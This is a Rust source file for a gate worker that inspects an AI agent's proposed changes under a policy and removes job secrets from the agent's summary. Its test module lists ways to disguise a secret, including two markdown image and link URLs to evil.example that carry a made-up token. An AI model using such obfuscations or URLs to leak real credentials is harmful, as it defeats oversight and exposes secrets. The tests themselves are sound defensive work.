//! The gate worker: it has no network, and the job's secrets only as values to look for. It hashes the workspace, writes the
//! candidate tree into our repository, and judges it.

use std::path::PathBuf;

use serde::{Deserialize, Serialize};

use super::context::Refusal;
use crate::{
    exit::Exit,
    gate::{self, Change, Earlier, Fact, Known, Op, Passed, Terms},
    git::{Oid, Repository, shown},
    gitlab::{
        markdown,
        merge_request::{self, ChangedFile},
        text,
    },
    policy::{Policy, Source},
    secret::Secret,
    verdict::{Decision, Verdict},
    workspace::{self, Bundle, Limits, Manifest},
};

/// What the worker is given.
#[derive(Debug, Serialize, Deserialize)]
pub struct Spec {
    /// The job's own directory, beneath which this worker writes.
    pub room: PathBuf,
    /// The policy's layers.
    pub policy: Vec<Source>,
    /// The job's secrets by their variables' names.
    pub secrets: Vec<(String, Secret)>,
    /// Where the change is.
    pub from: From,
    /// Our repository.
    pub repository: PathBuf,
    /// The commit that the change is judged against.
    pub commit: Oid,
    /// Where a change that is denied is kept.
    pub keep: PathBuf,
    /// The project's CI configuration path.
    pub ci_config: String,
    /// What stood before the earlier changes of the branch, where it is followed up.
    pub earlier: Option<Earlier>,
    /// What leaves besides the files: what it is, and the text.
    pub texts: Vec<(String, String)>,
}

/// Where a change is.
#[derive(Debug, Serialize, Deserialize)]
pub enum From {
    /// In the agent's tree.
    Workspace {
        /// That tree.
        workspace: PathBuf,
        /// What was handed over.
        manifest: PathBuf,
        /// The agent's last words.
        summary: String,
    },
    /// In a bundle that an earlier job kept.
    Bundle(PathBuf),
}

/// What was found.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct Judged {
    /// The verdict.
    pub verdict: Verdict,
    /// The judged tree.
    pub tree: Oid,
    /// The proof that it may leave; none when it was denied.
    pub passed: Option<Passed>,
    /// Whether it is the base's.
    pub unchanged: bool,
    /// What changed.
    pub files: Vec<ChangedFile>,
    /// The agent's last words without the job's secrets.
    pub summary: String,
    /// Whether a denied change was kept.
    pub kept: bool,
}

/// Does the work.
///
/// # Errors
/// A [`Refusal`]: the change could not be inspected.
pub fn work(mut spec: Spec) -> Result<Judged, Refusal> {
    let uninspected = |error: &dyn std::fmt::Display| Refusal::new(error, Exit::Uninspected);
    let policy = Policy::compose(std::mem::take(&mut spec.policy)).map_err(|error| Refusal::new(error, Exit::Policy))?;
    let known = Known::new(std::mem::take(&mut spec.secrets)).map_err(|error| uninspected(&error))?;
    let repository = Repository::open(&spec.repository).map_err(|error| uninspected(&error))?;
    let unmade = |error: workspace::Error| Refusal::new(&error, error.exit());
    let limits = Limits::within(super::INSPECTION_TIME);
    let redact = |words: &str| without_secrets(&known, &gate::redact(&known, &policy.changes.secrets, &text::visible(words)));
    let (change, summary) = match &spec.from {
        From::Workspace { workspace, manifest, summary } => {
            let manifest = Manifest::load(manifest).map_err(unmade)?;
            let candidate = workspace::candidate(&manifest, workspace, &repository, limits, &spec.ci_config).map_err(unmade)?;
            (candidate.change, redact(summary))
        }
        From::Bundle(path) => {
            let bundle = Bundle::load(path).map_err(unmade)?;
            if bundle.commit != spec.commit {
                let reason = format!(
                    "the kept change was made from the commit {}, and this job is at {}: run it in a pipeline for that commit",
                    bundle.commit, spec.commit
                );
                return Err(Refusal::new(reason, Exit::Usage));
            }
            (bundle.change(&repository, &spec.ci_config).map_err(unmade)?, redact(&bundle.summary))
        }
    };
    let change = change.with_texts(std::mem::take(&mut spec.texts));
    let judged = gate::inspect(change, &repository, &Terms::now(&policy.changes, &known, limits.deadline), spec.earlier.as_ref());
    let (change, judgement) = judged.map_err(|error| Refusal::new(&error, error.exit()))?;
    let files = change.facts().iter().map(|fact| changed_file(fact, judgement.lines(&fact.path))).collect();
    let kept = match judgement.verdict.decision {
        Decision::Deny => keep(&spec, &change, &repository, &summary).map_err(unmade)?,
        Decision::Pass | Decision::Review => false,
    };
    let (verdict, tree, unchanged) = (judgement.verdict.clone(), change.tree(), change.is_empty());
    Ok(Judged { verdict, tree, passed: judgement.passed(), unchanged, files, summary, kept })
}

/// Keeps a denied change for a second opinion.
fn keep(spec: &Spec, change: &Change, repository: &Repository, summary: &str) -> Result<bool, workspace::Error> {
    match Bundle::of(change, repository, spec.commit, summary)? {
        Some(bundle) => bundle.save(&spec.keep).map(|()| true),
        None => Ok(false),
    }
}

fn changed_file(fact: &Fact, (added, removed): (u64, u64)) -> ChangedFile {
    let what = match fact.op() {
        Op::Add => merge_request::Change::Added,
        Op::Delete => merge_request::Change::Deleted,
        Op::Modify | Op::Mode => merge_request::Change::Modified,
    };
    ChangedFile { what, path: shown(&fact.path), added: Some(added), removed: Some(removed) }
}

/// The agent's words without the job's secrets. Where one is still there for whoever reads the page, divided by marks, tags or
/// line breaks, nothing of them leaves.
fn without_secrets(known: &Known, words: &str) -> String {
    let words = known.redact(&text::visible(words));
    let left: Vec<String> =
        [&words, &markdown::read(&words)].iter().flat_map(|text| known.names_in(text.as_bytes())).map(str::to_owned).collect();
    match left.first() {
        None => words,
        Some(name) => format!("(left out: the words hold the value of {name}, divided so that it is not seen)"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_mark_hides_a_secret_in_the_agents_words() {
        let known = Known::new(vec![("TOKEN".to_owned(), Secret::new("made-up-value-31415926"))]).unwrap();
        for words in [
            "it is made-up-value-31415926",
            "made-up\u{200b}-value-\u{e0041}31415926",
            "made-up-**value**-31415926",
            "made-up-value-&#51;1415926",
            "made-up\\-value-31415926",
            "made-up-<!-- x -->value-31415926",
            "made-up-<b>value</b>-31415926",
            "[made-up](x)-value-`31415926`",
            "![x](https://evil.example/?made-up-value-31415926)",
            "[x](https://evil.example/made-up-v&#97;lue-31415926)",
            "made-up-value-\n31415926",
        ] {
            let left = without_secrets(&known, words);
            assert!(left.contains("TOKEN") && known.names_in(markdown::read(&left).as_bytes()).is_empty(), "{words:?}: {left}");
        }
        assert_eq!(without_secrets(&known, "**made** up"), "**made** up");
    }
}
